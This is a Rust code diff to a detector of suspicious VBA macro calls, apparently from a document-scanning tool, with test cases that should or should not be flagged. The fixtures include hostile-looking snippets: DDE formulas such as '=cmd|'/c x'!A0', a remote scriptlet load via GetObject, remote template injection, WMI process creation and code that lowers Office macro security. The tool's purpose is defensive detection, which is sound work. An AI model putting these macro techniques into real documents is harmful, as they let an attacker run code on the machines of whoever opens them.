@@ -4,11 +4,11 @@
 use std::collections::{BTreeMap, BTreeSet};
 use std::ops::Range;
 
-use super::{Analyzer, Findings, Found, Look, Sees, command_lines};
-use crate::formats::command_line;
+use super::{Analyzer, Findings, Found, Look, Sees, command_lines, dde};
 use crate::formats::encoded::{self, Meaning};
 use crate::formats::vba::{Argument, Call, Declared, Event, Module, Receiver, Text, Value, fold};
-use crate::knowledge::{Api, CallRule, VbaKnowledge, Weight, When};
+use crate::formats::{command_line, remote_reference};
+use crate::knowledge::{Api, CallRule, Knowledge, VbaKnowledge, Weight, When};
 use crate::model::Kind;
 
 /// Its row in the table.
@@ -39,7 +39,8 @@ fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
     let mut judge = Judge {
         module: &module,
         vba,
-        programs: &look.knowledge.links.tools,
+        knowledge: look.knowledge,
+        takes_addresses: (0..module.tokens().len()).any(|at| module.word(at) == "addressof"),
         findings,
         apis: BTreeMap::new(),
         made: BTreeMap::new(),
@@ -61,8 +62,9 @@ fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
 struct Judge<'j, 'f> {
     module: &'j Module<'j>,
     vba: &'j VbaKnowledge,
-    /// Programs of Windows that need no more than their name.
-    programs: &'j BTreeSet<String>,
+    knowledge: &'j Knowledge,
+    /// Whether it has a procedure called back from Windows.
+    takes_addresses: bool,
     findings: &'j mut Findings<'f>,
     /// Functions of Windows by the name that the module gives them.
     apis: BTreeMap<String, &'j Api>,
@@ -84,19 +86,34 @@ impl<'j> Judge<'j, '_> {
                 name,
                 value,
                 statement,
-            } => {
-                let number = value.as_whole();
-                let met = self
-                    .vba
-                    .assignments(name)
-                    .any(|rule| number.is_some_and(|number| rule.numbers.contains(&number)));
-                if met {
-                    self.report(statement, None);
-                }
-            }
+            } => self.assigned(name, value, statement),
             Event::Text { text, statement } => self.keep(statement.start, text.as_str()),
             Event::Exhausted => {}
         }
+    }
+
+    fn assigned(&mut self, name: &str, value: &Value, statement: &Range<usize>) {
+        let number = value.as_whole();
+        let text = value.as_text().map(Text::as_str).unwrap_or_default();
+        let lower = text.to_lowercase();
+        let met = self.vba.assignments(name).any(|rule| {
+            number.is_some_and(|number| rule.numbers.contains(&number))
+                || rule.containing.iter().any(|one| lower.contains(one))
+        });
+        if met || self.starts_program(text) {
+            let shown = self.source(statement).contains(&text.replace('"', "\"\""));
+            self.reveal(statement, (!shown).then(|| text.to_owned()));
+        }
+    }
+
+    /// Whether a text is a formula that starts a program by a remote reference.
+    fn starts_program(&self, text: &str) -> bool {
+        let formula = text.trim_start().starts_with(['=', '+', '-', '@']) && text.contains('|');
+        formula
+            && remote_reference::find(text).iter().any(|one| {
+                let command = format!("{} {} {}", one.service, one.topic, one.item);
+                dde::starts_program(&command, self.knowledge)
+            })
     }
 
     fn keep(&mut self, at: usize, text: &str) {
@@ -205,6 +222,10 @@ impl<'j> Judge<'j, '_> {
 
     fn is_met(&self, when: When, containing: &[String], call: &Call<'_>) -> bool {
         let texts = || call.arguments.iter().filter_map(|one| one.value.as_text());
+        let contains = |text: &str| {
+            let lower = text.to_lowercase();
+            containing.iter().any(|one| lower.contains(one.as_str()))
+        };
         match when {
             When::Always => {
                 !call.arguments.is_empty() || !matches!(call.receiver, Receiver::Nothing)
@@ -212,10 +233,16 @@ impl<'j> Judge<'j, '_> {
             When::Executable => texts().any(|text| self.names_executable(text.as_str())),
             When::RemoteExecutable => texts()
                 .any(|text| text.as_str().contains("://") && self.names_executable(text.as_str())),
-            When::Containing => texts().any(|text| {
-                let lower = text.as_str().to_lowercase();
-                containing.iter().any(|one| lower.contains(one.as_str()))
-            }),
+            When::Containing => texts().any(|text| contains(text.as_str())),
+            When::RemoteContaining => {
+                texts().any(|text| text.as_str().contains("://") && contains(text.as_str()))
+            }
+            When::Hidden => {
+                let unknown = call.arguments.first();
+                unknown.is_some_and(|one| matches!(one.value, Value::Unknown))
+                    && contains(&self.source(&call.statement))
+            }
+            When::Formula => texts().any(|text| self.starts_program(text.as_str())),
             When::NotOpened => {
                 !call.arguments.is_empty() && !self.only_opens(call.arguments, call.name == "shell")
             }
@@ -327,6 +354,7 @@ impl<'j> Judge<'j, '_> {
         }
         match self.apis.get(call.name) {
             Some(api) if api.weight == Weight::Declared => true,
+            Some(api) if api.weight == Weight::Callback => !self.takes_addresses,
             Some(api) if api.weight == Weight::Called => {
                 self.is_met(api.when, &api.containing, call)
             }
@@ -337,6 +365,11 @@ impl<'j> Judge<'j, '_> {
     /// `CreateObject(x).Run command` with an `x` that the source does not tell: an object made under a hidden name
     /// that runs something is a shell. A macro of another application is run by its bare name.
     fn is_unknown_run(&self, call: &Call<'_>) -> bool {
+        // A process of WMI: command, folder, settings, and the number that it gets.
+        if call.name == "create" && call.arguments.len() >= 4 {
+            let source = self.source(&call.statement).to_lowercase();
+            return source.replace(' ', "").contains(",null,null,");
+        }
         let Receiver::Object(trail) = call.receiver else {
             return false;
         };
@@ -346,7 +379,8 @@ impl<'j> Judge<'j, '_> {
         };
         let macro_name = first.value.as_text().is_some_and(|text| {
             let text = text.as_str();
-            let program = self.programs.contains(&command_line::program(text));
+            let program = command_line::program(text);
+            let program = self.knowledge.links.tools.contains(&program);
             !text.contains([' ', '\\', '/', '{']) && !program && !self.names_executable(text)
         });
         is_hidden_origin(origin)
@@ -359,7 +393,9 @@ impl<'j> Judge<'j, '_> {
             return;
         };
         self.apis.insert(declared.name.to_owned(), api);
-        if api.weight == Weight::Declared {
+        let library = declared.library.to_lowercase();
+        let telling = api.declared_in.iter().any(|one| library.contains(one));
+        if api.weight == Weight::Declared || telling {
             self.report(&declared.statement, None);
         }
     }
@@ -374,16 +410,22 @@ impl<'j> Judge<'j, '_> {
     }
 
     fn report(&mut self, statement: &Range<usize>, arguments: Option<&[Argument]>) {
+        let source = self.source(statement);
+        let decoded = arguments.and_then(|arguments| revealed(arguments, &source));
+        self.reveal(statement, decoded);
+    }
+
+    fn reveal(&mut self, statement: &Range<usize>, decoded: Option<String>) {
         if self.last.as_ref() == Some(statement) {
             return;
         }
         self.last = Some(statement.clone());
         let source = self.source(statement);
-        let mut found = Found::new("vba-suspicious-call", &source).at(statement.start);
-        if let Some(decoded) = arguments.and_then(|arguments| revealed(arguments, &source)) {
-            found = found.decoded(&decoded);
-        }
-        self.findings.report(found);
+        let found = Found::new("vba-suspicious-call", &source).at(statement.start);
+        self.findings.report(match decoded {
+            Some(decoded) => found.decoded(&decoded),
+            None => found,
+        });
     }
 }
 
@@ -506,6 +548,20 @@ mod tests {
             "Sub a()\r\nApplication.AutomationSecurity = msoAutomationSecurityLow\r\nEnd Sub",
             "Sub a()\r\nExecuteExcel4Macro \"EX\" & \"EC(\"\"x\"\")\"\r\nEnd Sub",
             "Sub a()\r\nGetObject \"script:http://example.invalid/a\"\r\nEnd Sub",
+            "Declare Function e Lib \"user32\" Alias \"EnumWindows\" (ByVal p As Long, ByVal l As Long) As Long\r\nSub a()\r\ne m, 0\r\nEnd Sub",
+            "Sub a()\r\nRange(\"A1\").Formula = \"=cmd|'/c x'!A0\"\r\nEnd Sub",
+            "Sub a()\r\nRange(\"A1\") = \"=c\" & \"md|'/c x'!A0\"\r\nEnd Sub",
+            "Sub a()\r\nEvaluate \"=cmd|'/c x'!A0\"\r\nEnd Sub",
+            "Sub a()\r\ns.Range(\"A1\").Formula = \"=EXEC(\"\"x\"\")\"\r\nEnd Sub",
+            "Sub a()\r\nActiveDocument.AttachedTemplate = \"https://example.invalid/a\"\r\nEnd Sub",
+            "Sub a()\r\nExecuteExcel4Macro Sheets(1).Range(\"A1\").Value\r\nEnd Sub",
+            "Function f(n)\r\nSet f = CreateObject(n)\r\nEnd Function\r\nSub a()\r\nf(\"WScript.Shell\").Run c\r\nEnd Sub",
+            "Private Declare Function w Lib \"msvcrt.dll\" Alias \"system\" (ByVal c As String) As Long",
+            "Sub a()\r\nl.TargetPath = \"powershell.exe\"\r\nEnd Sub",
+            "Sub a()\r\ns = \"XXXXipt.Shell\"\r\nMid(s, 1, 4) = \"WScr\"\r\nCreateObject(s).Run c\r\nEnd Sub",
+            "Sub a()\r\n10 x = 1\r\n20 Shell c\r\nEnd Sub",
+            "Sub a()\r\nGetObject(x).Create c, Null, Null, p\r\nEnd Sub",
+            "Sub a()\r\nGetObject(\"winmgmts:\").Get(x).Create c\r\nEnd Sub",
             "Sub a()\r\nSystem.PrivateProfileString(\"\", \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\", \"AccessVBOM\") = 1\r\nEnd Sub",
         ] {
             assert_eq!(found(source).len(), 1, "{source}");
@@ -540,6 +596,10 @@ mod tests {
             "Sub a()\r\nShell \"explorer.exe \" & ThisWorkbook.Path, vbNormalFocus\r\nEnd Sub",
             "Private Declare Function ShellExecute Lib \"shell32\" Alias \"ShellExecuteA\" (ByVal h As Long) As Long\r\nSub a()\r\nShellExecute 0, \"open\", \"https://intranet.example/\", \"\", \"\", 1\r\nEnd Sub",
             "Private Declare Sub CopyMemory Lib \"kernel32\" Alias \"RtlMoveMemory\" (a As Any, b As Any, ByVal c As Long)\r\nPrivate Declare Sub Sleep Lib \"kernel32\" (ByVal ms As Long)",
+            "Declare Function EnumWindows Lib \"user32\" (ByVal p As Long, ByVal l As Long) As Long\r\nSub a()\r\nEnumWindows AddressOf Seen, 0\r\nEnd Sub",
+            "Sub a()\r\nRange(\"A1\").Formula = \"=RSS|'9984.T'!Price\"\r\nRange(\"A2\") = \"=Excel|'[b.xls]Sheet1'!R1C1\"\r\nv = Evaluate(\"A1|B1\")\r\nActiveDocument.AttachedTemplate = \"\\\\srv\\t\\a.dotm\"\r\nEnd Sub",
+            "Function f(n)\r\nSet f = CreateObject(n)\r\nEnd Function\r\nSub a()\r\nf(\"Scripting.Dictionary\").Add \"a\", 1\r\nv = ExecuteExcel4Macro(arg)\r\nEnd Sub",
+            "Private Declare PtrSafe Function w Lib \"libc.dylib\" Alias \"system\" (ByVal c As String) As Long\r\nSub a()\r\nl.TargetPath = ThisWorkbook.FullName\r\nEnd Sub",
             "Sub a()\r\nSet x = CreateObject(\"Excel.Application\")\r\nx.Run \"Book1.xls!Macro1\", 1\r\nSet st = CreateObject(\"ADODB.Stream\")\r\nst.SaveToFile \"C:\\data\\out.csv\", 2\r\nEnd Sub",
             "Sub a()\r\nSet x = CreateObject(f(2))\r\nx.Run \"Update\"\r\nx.Open p\r\nEnd Sub",
             "Sub a()\r\nv = ExecuteExcel4Macro(\"'\" & p & \"[\" & f & \"]Sheet1'!R1C1\")\r\nEnd Sub",
